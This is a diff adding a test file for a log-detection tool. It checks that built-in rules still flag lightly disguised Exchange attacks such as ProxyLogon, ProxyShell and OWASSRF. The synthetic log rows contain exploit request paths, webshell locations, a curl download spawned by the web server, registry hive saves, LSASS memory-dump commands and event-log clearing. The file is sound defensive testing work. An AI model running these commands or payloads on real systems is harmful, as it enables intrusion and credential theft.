@@ -1,0 +1,604 @@
+import { describe, expect, it } from 'vitest'
+import { builtIn, builtInRules } from '../../src/detections/built-in.ts'
+import type { Shows } from '../../src/detections/chain.ts'
+import { Hunter } from '../../src/detections/hunt.ts'
+import { LEVELS, type Level } from '../../src/event/hit.ts'
+import { fieldOf, rebuiltLine } from '../../src/formats/registry.ts'
+import { blockOf } from './example-block.ts'
+
+/**
+ * Known attacks with the small changes that cost an attacker nothing, each as one event: the level at which it must
+ * still be told, and what it must still say for a verdict.
+ */
+type Row = Record<string, string | readonly string[]>
+type Trace = readonly [what: string, format: string, row: Row, least: Level, shows?: Shows]
+
+const proxy = (AnchorMailbox: string, HttpStatus: string, more: Row = {}): Row => ({
+  AnchorMailbox,
+  HttpStatus,
+  UrlStem: '/ecp/y.js',
+  RoutingHint: 'X-BEResource-Cookie',
+  Method: 'POST',
+  ClientIpAddress: '198.51.100.21',
+  ...more,
+})
+const web = (row: Row): Row => ({
+  's-port': '443',
+  'cs-username': '-',
+  'cs(User-Agent)': 'Mozilla/5.0',
+  'c-ip': '203.0.113.9',
+  'cs-method': 'POST',
+  'sc-status': '200',
+  ...row,
+})
+const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'
+const POOL = `${W3WP} -ap "MSExchangeOWAAppPool" -v "v4.0"`
+const process = (row: Row): Row => ({
+  Channel: 'Microsoft-Windows-Sysmon/Operational',
+  EventID: '1',
+  Image: 'C:\\Windows\\System32\\cmd.exe',
+  CommandLine: 'cmd.exe',
+  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
+  User: 'NT AUTHORITY\\SYSTEM',
+  ...row,
+})
+const written = (TargetFilename: string, Image = 'System'): Row => ({
+  Channel: 'Microsoft-Windows-Sysmon/Operational',
+  EventID: '11',
+  Image,
+  TargetFilename,
+})
+const EXCHANGE = 'D:\\Exchange\\V15'
+const json = '/Autodiscover/autodiscover.JSON'
+
+const TRACES: readonly Trace[] = [
+  [
+    'forged anchor whose prefix begins like localhost',
+    'exchange-http-proxy',
+    proxy('ServerInfo~localhost]@ex01.corp.example:444/ecp/about.aspx?#', '200'),
+    'high',
+    'reach',
+  ],
+  [
+    'the same, refused',
+    'exchange-http-proxy',
+    proxy('ServerInfo~localhosts]@ex01.corp.example:444/ecp/about.aspx?#', '500'),
+    'high',
+    'failure',
+  ],
+  [
+    'forged anchor whose prefix names a catcher of calls',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a.oast.b]@ex01.corp.example:444/ecp/about.aspx?#', '200'),
+    'high',
+    'reach',
+  ],
+  [
+    'forged anchor that names Autodiscover behind the path',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444/ecp/about.aspx?/autodiscover/#', '200'),
+    'high',
+    'reach',
+  ],
+  [
+    'mail read by way of Autodiscover and back',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444/autodiscover/../EWS/Exchange.asmx?#', '200'),
+    'critical',
+    'success',
+  ],
+  [
+    'mail read with a doubled slash',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444//ews/exchange.asmx?#', '200'),
+    'critical',
+    'success',
+  ],
+  [
+    'mail read with an encoded letter',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444/%65ws/exchange.asmx?#', '200'),
+    'high',
+    'reach',
+  ],
+  [
+    'mail read with backslashes',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444\\ews\\exchange.asmx?#', '200'),
+    'critical',
+    'success',
+  ],
+  [
+    'session minted with an encoded dot',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444/ecp/proxyLogon%2eecp?#', '241'),
+    'critical',
+    'success',
+  ],
+  [
+    'session minted with backslashes',
+    'exchange-http-proxy',
+    proxy('ServerInfo~a]@ex01.corp.example:444\\ecp\\proxyLogon.ecp?#', '241'),
+    'critical',
+    'success',
+  ],
+  [
+    'settings reset with an encoded letter',
+    'exchange-http-proxy',
+    proxy(
+      'ServerInfo~a]@ex01.corp.example:444/ecp/DDI/DDIService.svc/%53etObject?schema=ResetOABVirtualDirectory#',
+      '200',
+    ),
+    'critical',
+    'success',
+  ],
+  [
+    'settings of another virtual directory reset',
+    'exchange-http-proxy',
+    proxy(
+      'ServerInfo~a]@ex01.corp.example:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOWAVirtualDirectory#',
+      '200',
+    ),
+    'critical',
+    'success',
+  ],
+  [
+    'session minted behind a long static name',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/ecp/anynameatall123.axd', 'sc-status': '241' }),
+    'high',
+    'success',
+  ],
+  [
+    'session minted in a folder',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/ecp/a/b.ico', 'sc-status': '241' }),
+    'high',
+    'success',
+  ],
+  [
+    'post to a static file with a long name',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/ecp/resources.styles.woff', 'sc-status': '200' }),
+    'high',
+    'attempt',
+  ],
+  [
+    'post to a static file in a folder, refused',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/ecp/a/b/c.png', 'sc-status': '500' }),
+    'medium',
+    'attempt',
+  ],
+  [
+    'proxyLogon at the back end, doubled slash',
+    'iis-w3c',
+    web({
+      'cs-uri-stem': '/ecp//proxyLogon.ecp',
+      's-port': '444',
+      'cs-username': 'CORP\\EX01$',
+      'sc-status': '241',
+    }),
+    'high',
+    'reach',
+  ],
+  [
+    'the back end by the name of its site',
+    'iis-w3c',
+    {
+      's-sitename': 'W3SVC2',
+      'cs-uri-stem': '/ecp/DDI/DDIService.svc/SetObject',
+      'cs-uri-query': 'schema=ResetOABVirtualDirectory',
+      'cs-username': 'CORP\\EX01$',
+      'sc-status': '200',
+      'cs-method': 'POST',
+    },
+    'critical',
+    'success',
+  ],
+  [
+    'reset with a referrer of its own',
+    'exchange-ecp-server',
+    {
+      CMD: 'Remove-OABVirtualDirectory.Force=$true.Identity=g',
+      URL: '/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory',
+      REFERRER: 'http://a/',
+    },
+    'critical',
+    'success',
+  ],
+  [
+    'address emptied with a referrer of its own',
+    'exchange-ecp-server',
+    {
+      CMD: "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='g'",
+      URL: '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
+      REFERRER: 'https://attacker.example/http',
+    },
+    'high',
+    'reach',
+  ],
+  [
+    'script text without any known word',
+    'exchange-ecp-server',
+    {
+      CMD: "Set-OabVirtualDirectory.ExternalUrl='http://mail.corp.example/#<object id=x>'.Identity='g'",
+      URL: '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
+      REFERRER: '',
+    },
+    'critical',
+    'success',
+  ],
+  [
+    'script text included from elsewhere',
+    'windows-evtx',
+    {
+      Channel: 'MSExchange Management',
+      EventID: '1',
+      Data: [
+        'Set-OabVirtualDirectory',
+        '-ExternalUrl "http://mail.corp.example/<!--#include file=a.txt-->" -Identity "OAB"',
+      ],
+    },
+    'critical',
+    'success',
+  ],
+  [
+    'ProxyShell with another letter encoded',
+    'iis-w3c',
+    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/p%6fwershell/?X-Rps-CAT=VgEA&Email=a' }),
+    'critical',
+    'success',
+  ],
+  [
+    'ProxyShell with a doubled slash',
+    'iis-w3c',
+    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example//powershell/?X-Rps-CAT=VgEA&Email=a' }),
+    'critical',
+    'success',
+  ],
+  [
+    'ProxyShell by way of another folder',
+    'iis-w3c',
+    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/a/../powershell/?X-Rps-CAT=VgEA&Email=a' }),
+    'critical',
+    'success',
+  ],
+  [
+    'ProxyShell with a port',
+    'iis-w3c',
+    web({ 'cs-uri-stem': json, 'cs-uri-query': 'a=b@x.example:443/PowerShell/?X-Rps-CAT=VgEA' }),
+    'critical',
+    'success',
+  ],
+  [
+    'ProxyShell whose page is named with an encoded letter',
+    'iis-w3c',
+    web({
+      'cs-uri-stem': json,
+      'cs-uri-query': '@x.example/%6dapi/emsmdb?Email=autodiscover/autodiscover.json',
+    }),
+    'critical',
+    'reach',
+  ],
+  [
+    'ProxyShell, mail asked with an encoded letter',
+    'iis-w3c',
+    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/e%77s/exchange.asmx?a' }),
+    'critical',
+    'reach',
+  ],
+  [
+    'ProxyShell, with the other service named behind',
+    'iis-w3c',
+    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/mapi/emsmdb?&z=/mapi/nspi' }),
+    'critical',
+    'reach',
+  ],
+  [
+    'ProxyShell, names asked with an encoded slash',
+    'exchange-http-proxy',
+    {
+      UrlStem: '/autodiscover/autodiscover.json',
+      UrlQuery: '?@x.example%2Fmapi%2Fnspi%2F?&Email=autodiscover/autodiscover.json%3F@x.example',
+      HttpStatus: '200',
+      Method: 'POST',
+    },
+    'high',
+    'reach',
+  ],
+  [
+    'ProxyShell with the question mark in the path',
+    'iis-w3c',
+    web({
+      'cs-uri-stem': '/autodiscover/autodiscover.json?@x.example/powershell/',
+      'cs-uri-query': 'X-Rps-CAT=VgEA',
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'ProxyNotShell with encoded letters',
+    'iis-w3c',
+    web({
+      'cs-uri-stem': json,
+      'cs-uri-query': 'a@x.example/%50ower%53hell/&Email=autodiscover/autodiscover.json%3fa@x.example',
+      'cs-username': 'CORP\\anna',
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'OWASSRF with other letters encoded',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/owa/a%40x.example/power%73hell', 'cs-username': 'CORP\\anna' }),
+    'critical',
+    'success',
+  ],
+  [
+    'shell with something behind its name',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/aspnet_client/a.aspx/logon.js' }),
+    'critical',
+    'success',
+  ],
+  [
+    'shell with a doubled slash',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/owa//auth//errorEE.aspx' }),
+    'critical',
+    'success',
+  ],
+  ['shell as a service', 'iis-w3c', web({ 'cs-uri-stem': '/owa/auth/outlook.svc' }), 'critical', 'success'],
+  [
+    'shell read by GET, as a remote object',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/aspnet_client/system_web/error.soap', 'cs-method': 'GET' }),
+    'high',
+    'success',
+  ],
+  [
+    'shell seen by the proxy, with something behind its name',
+    'exchange-http-proxy',
+    { UrlStem: '/owa/auth/errorEE.aspx/x', HttpStatus: '200', Method: 'GET' },
+    'high',
+    'success',
+  ],
+  [
+    'shell behind the name of a page that is shipped',
+    'iis-w3c',
+    web({ 'cs-uri-stem': '/owa/auth/logon.aspx/errorEE.aspx', 'cs-method': 'GET' }),
+    'informational',
+  ],
+  [
+    'command in a parameter of any name',
+    'iis-w3c',
+    web({
+      'cs-uri-stem': '/aspnet_client/a.aspx',
+      'cs-uri-query': 'zz9=cmd.exe+/c+whoami',
+      'cs-method': 'GET',
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'copy of the command program, by its original name',
+    'windows-evtx',
+    process({
+      Image: 'C:\\inetpub\\wwwroot\\aspnet_client\\help.exe',
+      OriginalFileName: 'Cmd.Exe',
+      ParentImage: W3WP,
+      ParentCommandLine: POOL,
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'program of its own started by the web server',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\Temp\\update.exe',
+      CommandLine: 'C:\\Windows\\Temp\\update.exe',
+      ParentImage: W3WP,
+      ParentCommandLine: POOL,
+    }),
+    'high',
+    'reach',
+  ],
+  [
+    'other tools of the system started by the web server',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\System32\\curl.exe',
+      CommandLine: 'curl.exe -o a http://203.0.113.9/a',
+      ParentImage: W3WP,
+      ParentCommandLine: POOL,
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'hive saved with quotes',
+    'windows-evtx',
+    process({ Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg  save "HKLM\\SAM" C:\\a' }),
+    'critical',
+    'success',
+  ],
+  [
+    'hive saved by another program that is the same',
+    'windows-evtx',
+    process({ Image: 'C:\\a.exe', OriginalFileName: 'reg.exe', CommandLine: 'a save hklm\\security b' }),
+    'critical',
+    'success',
+  ],
+  [
+    'memory dumped by number',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\System32\\rundll32.exe',
+      CommandLine: 'rundll32 c:\\windows\\system32\\comsvcs.dll,#65560 624 c:\\a.bin full',
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'memory dumped by another tool of the system',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\System32\\rdrleakdiag.exe',
+      CommandLine: 'rdrleakdiag.exe /p 624 /o C:\\a /fullmemdmp /wait 1',
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'memory dumped with the other dash',
+    'windows-evtx',
+    process({
+      Image: 'C:\\a\\p.exe',
+      CommandLine: 'p.exe /accepteula /ma lsass.exe a',
+    }),
+    'critical',
+    'success',
+  ],
+  [
+    'script of another kind written to the web',
+    'windows-evtx',
+    written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\x.svc`),
+    'critical',
+    'success',
+  ],
+  [
+    'script written to the web on another drive',
+    'windows-evtx',
+    written('E:\\inetpub\\wwwroot\\aspnet_client\\x.soap', W3WP),
+    'critical',
+    'success',
+  ],
+  [
+    'script of another kind over the loopback share',
+    'windows-evtx',
+    {
+      Channel: 'Security',
+      EventID: '5145',
+      IpAddress: '::1',
+      SubjectUserName: 'EX01$',
+      ShareName: '\\\\*\\D$',
+      RelativeTargetName: 'Exchange\\V15\\FrontEnd\\HttpProxy\\ecp\\auth\\a.svc',
+      AccessMask: '0x2',
+    },
+    'critical',
+    'success',
+  ],
+  [
+    'export as a script of another kind',
+    'exchange-cmdlet',
+    {
+      Cmdlet: 'New-MailboxExportRequest',
+      Parameters: '-Mailbox "a" -FilePath "\\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\a.soap"',
+    },
+    'critical',
+    'success',
+  ],
+  [
+    'export into a web folder, for fetching',
+    'exchange-cmdlet',
+    {
+      Cmdlet: 'New-MailboxExportRequest',
+      Parameters: '-Mailbox "a" -FilePath "\\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\a.txt"',
+    },
+    'high',
+  ],
+  [
+    'export to the own share by its long names',
+    'exchange-cmdlet',
+    {
+      Cmdlet: 'New-MailboxExportRequest',
+      Parameters: '-Mailbox "a" -FilePath "\\\\0:0:0:0:0:0:0:1\\a\\b.pst"',
+    },
+    'high',
+  ],
+  [
+    'group of administrators by its identifier, in any language',
+    'windows-evtx',
+    {
+      Channel: 'Security',
+      EventID: '4732',
+      TargetUserName: 'Administradores',
+      TargetSid: 'S-1-5-32-544',
+      MemberSid: 'S-1-5-21-1-2-3-1105',
+    },
+    'medium',
+  ],
+  [
+    'tools run by the system account of a French server',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\System32\\whoami.exe',
+      CommandLine: 'whoami',
+      User: 'AUTORITE NT\\Système',
+      LogonId: '0x3e7',
+    }),
+    'medium',
+  ],
+  [
+    'logs of the web server deleted by the web server',
+    'windows-evtx',
+    {
+      Channel: 'Microsoft-Windows-Sysmon/Operational',
+      EventID: '23',
+      Image: W3WP,
+      TargetFilename: 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log',
+    },
+    'high',
+  ],
+  [
+    'data packed by PowerShell',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      CommandLine: 'powershell Compress-Archive C:\\a C:\\inetpub\\wwwroot\\aspnet_client\\a.zip',
+    }),
+    'high',
+  ],
+  [
+    'log of events removed by another command',
+    'windows-evtx',
+    process({
+      Image: 'C:\\Windows\\System32\\wbem\\wmic.exe',
+      CommandLine: 'wmic nteventlog where filename="security" cl',
+    }),
+    'high',
+  ],
+]
+
+const { rules } = builtInRules()
+const rank = (level: Level): number => LEVELS.indexOf(level)
+const said = new Map<string, Set<Shows>>()
+for (const { rule, shows } of builtIn().chains.flatMap(({ stages }) =>
+  stages.flatMap((stage) => stage.rules),
+))
+  said.set(rule, (said.get(rule) ?? new Set()).add(shows))
+
+function found(format: string, row: Row): typeof rules {
+  const asked = rules.filter((rule) => rule.alerts)
+  const block = blockOf(format, [row], format === 'windows-evtx' ? 'absent' : 'empty')
+  const context = { sourceId: 0, hostOf: () => null, fieldOf, rawText: () => rebuiltLine(block, 0) }
+  return new Hunter({ rules: asked }, fieldOf).hunt(block, context).map(({ rule }) => rule)
+}
+
+describe('a small change hides nothing', () => {
+  it.each(TRACES)('%s', (_, format, row, least, shows) => {
+    const hits = found(format, row)
+    const told = hits.map(({ name, level }) => `${name} [${level}]`).join(', ')
+    const best = Math.max(-1, ...hits.map(({ level }) => rank(level)))
+    expect(best, `only ${told || 'nothing'}`).toBeGreaterThanOrEqual(
+      least === 'informational' ? -1 : rank(least),
+    )
+    if (shows)
+      expect(
+        hits.flatMap(({ name }) => [...(said.get(name) ?? [])]),
+        told,
+      ).toContain(shows)
+  })
+})
